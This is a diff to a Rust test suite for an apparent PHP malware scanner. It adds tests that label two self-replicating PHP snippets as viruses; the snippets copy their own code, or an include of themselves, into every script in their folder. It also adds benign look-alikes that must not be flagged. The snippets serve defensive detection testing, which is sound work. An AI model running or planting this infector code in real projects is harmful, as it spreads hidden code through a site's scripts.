@@ -823,3 +823,26 @@ fn a_contact_form_mailing_coded_or_ordinary_fields_is_not_a_collector() {
         "<?php $m = \"Qty: \" . $_POST['qty'] . \" Ref: \" . $_POST['ref']; mail('shop@example.com', 'Order', $m);";
     assert!(!found(order).contains(&Why::CredentialCollector), "{:?}", found(order));
 }
+
+#[test]
+fn a_script_that_writes_its_own_code_into_the_scripts_of_its_folder_is_a_virus() {
+    let appends = "<?php $h = fopen(__FILE__, 'r'); $c = fread($h, filesize(__FILE__)); $d = opendir('.');\n\
+                   while (($f = readdir($d)) !== false) { if (substr($f, -4) == '.php') { $g = fopen($f, 'a'); fwrite($g, $c); } }";
+    assert_eq!(found(appends), [Why::InjectsHiddenCode]);
+    let includes = "<?php $d = opendir('.'); while ($f = readdir($d)) { $g = fopen($f, 'a');\n\
+                    fputs($g, '<?php include(\"'); fputs($g, __FILE__); fputs($g, '\"); ?>'); }";
+    assert_eq!(found(includes), [Why::InjectsHiddenCode]);
+    let fixture = include_str!("../../../tests/fixtures/sweep/malicious/virus_appends_itself.php");
+    assert_eq!(found(fixture), [Why::InjectsHiddenCode]);
+}
+
+#[test]
+fn a_self_updater_or_a_log_naming_its_script_is_not_a_virus() {
+    // It rewrites its own file with what it read from its own file.
+    let update = "<?php $c = file_get_contents(__FILE__); $c = str_replace('v1', 'v2', $c); $h = fopen(__FILE__, 'w');\n\
+                  fwrite($h, $c); foreach (glob('cache/*') as $f) { unlink($f); }";
+    assert!(found(update).is_empty(), "{:?}", found(update));
+    // It logs its own path while it walks a folder.
+    let log = "<?php $me = __FILE__; $l = fopen('run.log', 'a'); foreach (scandir('.') as $f) { fwrite($l, \"$me saw $f\\n\"); }";
+    assert!(found(log).is_empty(), "{:?}", found(log));
+}
